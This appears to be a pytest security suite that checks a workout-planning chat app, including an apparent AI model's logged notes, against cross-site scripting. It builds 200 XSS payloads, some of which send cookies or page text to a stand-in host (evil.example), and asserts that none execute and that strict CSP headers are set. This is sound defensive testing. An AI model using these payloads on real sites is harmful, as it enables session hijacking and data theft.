"""Text that would like to be code: whoever wrote it, nothing of it runs and nothing is fetched."""

import datetime as dt
from collections.abc import Callable, Iterator
from itertools import product
from typing import Any

import httpx2
import pytest
import sqlalchemy as sa
from browsing import TODAY, House, Visit
from openai_server import Endpoint, calls
from playwright.sync_api import expect
from starlette.requests import Request
from starlette.responses import Response

Open = Callable[..., Visit]
CODE = (
    "hit()",
    "top.hit(document.cookie)",
    "fetch('//evil.example/'+document.body.innerText)",
    "new Image().src='//evil.example/x'",
    "location='//evil.example/'+sessionStorage.length",
)
SHAPES = (
    "<script>{}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT><script>{}</script>",
    "<img src=x onerror={}>",
    '<img src="//evil.example/x.png" onload="{}">',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    '<iframe src="javascript:{}"></iframe>',
    '<a href="javascript:{}">press</a>',
    "[press](javascript:{})",
    "![x](//evil.example/x.png?{})",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<style>@import '//evil.example/x.css';</style><p style='background:url(//evil.example/x)'>{}",
    "<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content='0;{}'>",
    "<form action=//evil.example><button formaction=javascript:{}>press</button></form>",
    "<template><img src=x onerror={}></template>",
    "\"'><img src=x onerror={}>",
    "--></script><script>{}</script>",
    "</title></textarea></style><script>{}</script>",
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<base href=//evil.example/><script src=x.js></script>{}",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    '<img src=1 href=1 onerror="{}"></img>',
    "<div onpointerover={} style=position:fixed;inset:0>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<xss onclick={} tabindex=1 id=x autofocus>",
    "<marquee onstart={}>",
    "<isindex type=image src=1 onerror={}>",
    "\u202e<img src=x onerror={}>\u202d",
    "<scr\u0131pt>{}</scr\u0131pt>",
    "&lt;img src=x onerror={}&gt;",
    "&LT;script&GT;{}&LT;/script&GT;",
    "**<b onmouseover={}>strong</b>**",
)
PAYLOADS = tuple(shape.format(code) for shape, code in product(SHAPES, CODE))
WATCH = """() => {
    window.hits = [];
    window.hit = (...what) => window.hits.push(what.join());
    addEventListener("securitypolicyviolation", (event) => window.hits.push(event.blockedURI));
}"""
ADDED = (
    "script, iframe, object, embed, img, a, video, form, link, style, base, meta, template, "
    "math, marquee, [onerror], [onload], [onclick], [onfocus], [style*=url]"
)


class Echo(Endpoint):
    """A model that logs a run with a text as its note, and says that text."""

    says = ""
    day = TODAY

    async def answer(self, request: Request) -> Response:
        """Ask for the call, or say the text."""
        logged = (await request.json())["messages"][-1]["role"] == "tool"
        run = {"completion_status": "completed", "date": self.day.isoformat()}
        call = ("log_execution", run | {"feedback": {"notes": self.says}})
        self.script = [self.says if logged else calls(call)]
        return await super().answer(request)


@pytest.fixture
def echo(endpoint: Any) -> Iterator[Echo]:
    endpoint.stand_in = Echo("")
    yield endpoint.stand_in
    endpoint.stand_in = None


def ran(visit: Visit) -> list[str]:
    """Return what ran or was tried, and what stands in the page that text can't have made."""
    hits: list[str] = visit.page.evaluate("() => window.hits")
    grown = (
        visit.page.locator("main")
        .locator(ADDED)
        .evaluate_all(
            "(all) => all.filter((each) => each.id !== 'composer' && each.id !== 'sign-in')"
            ".map((each) => each.outerHTML)"
        )
    )
    return hits + grown


def test_there_are_two_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) == 200


@pytest.mark.timeout(300)
def test_no_message_note_or_reply_of_two_hundred_runs_anything(
    scripted_house: House, window: Open, echo: Echo
) -> None:
    runner = scripted_house.runner()
    headers = {"X-Runplan-User": runner}
    told = []
    with httpx2.Client(base_url=scripted_house.url, headers=headers, timeout=60) as client:
        for n, payload in enumerate(PAYLOADS):
            echo.says, echo.day = payload, TODAY - dt.timedelta(days=n)
            body = {"message": payload, "conversation_id": "conv_evil"}
            told.append(client.post("/chat", json=body).json())
    assert [reply for reply in told if not reply.get("actions")] == []
    notes = [reply["actions"][0]["result"]["feedback"]["notes"] for reply in told]
    assert notes == list(PAYLOADS)
    echoed = [reply["reply"] for reply in told]
    assert sum(said == payload for said, payload in zip(echoed, PAYLOADS, strict=True)) > 150
    visit = window(scripted_house.url)
    visit.page.add_init_script(f"({WATCH})()")
    visit.open(runner)
    for shown in range(20, 200, 20):
        expect(visit.turns).to_have_count(shown)
        visit.page.get_by_role("button", name="Show earlier messages").click()
    expect(visit.turns).to_have_count(200)
    said = visit.page.locator(".said").all_inner_texts()
    assert [text.removeprefix("You:").strip() for text in said] == [p.strip() for p in PAYLOADS]
    for payload in PAYLOADS[::25]:  # and as they come, streamed
        echo.says = payload
        visit.say(payload)
    assert ran(visit) == []
    assert visit.wrong == []


def test_no_workout_name_rationale_or_reason_runs_anything(house: House, window: Open) -> None:
    runner = house.runner()
    window(house.url).open(runner).say("Can we move Thursday's tempo to Friday?")
    days = house.rows("SELECT id FROM workout_plan WHERE user_id = :id ORDER BY id", id=runner)
    with house.database.write(runner) as session:
        for n, (workout,) in enumerate(days):
            session.connection().execute(
                sa.text(
                    "UPDATE workout_plan SET name = :name, rationale = :why"
                    " WHERE user_id = :id AND id = :workout"
                ),
                {
                    "name": PAYLOADS[n % 200],
                    "why": PAYLOADS[(n + len(days)) % 200],
                    "id": runner,
                    "workout": workout,
                },
            )
        session.connection().execute(
            sa.text(
                "UPDATE adaptation_log SET change_summary = :what, reason = :why"
                " WHERE user_id = :id"
            ),
            {"what": PAYLOADS[0], "why": PAYLOADS[1], "id": runner},
        )
    visit = window(house.url)
    visit.page.add_init_script(f"({WATCH})()")
    visit.open(runner)
    expect(visit.plan.locator(".cell").first).to_be_visible()
    names = visit.plan.locator(".row-name").all_inner_texts()
    assert len(names) == 7
    assert all(name in PAYLOADS for name in names)
    for row in range(7):
        visit.plan.locator(".week button").nth(row).click()
        visit.page.get_by_role("button", name="Close").click()
    assert ran(visit) == []


def test_the_page_asks_a_browser_for_all_the_care_it_has(house: House) -> None:
    with httpx2.Client(base_url=house.url) as client:
        for path in ("/", "/page/main.js", "/page/page.css", "/chat", "/nowhere"):
            headers = client.get(path).headers
            policy = dict(
                rule.strip().partition(" ")[::2]
                for rule in headers["content-security-policy"].split(";")
            )
            assert policy == {
                "default-src": "'none'",
                "script-src": "'self'",
                "style-src": "'self'",
                "connect-src": "'self'",
                "img-src": "'self' data:",
                "base-uri": "'none'",
                "form-action": "'none'",
                "frame-ancestors": "'none'",
                "require-trusted-types-for": "'script'",
                "trusted-types": "'none'",
            }
            assert headers["x-content-type-options"] == "nosniff"
            assert headers["referrer-policy"] == "no-referrer"
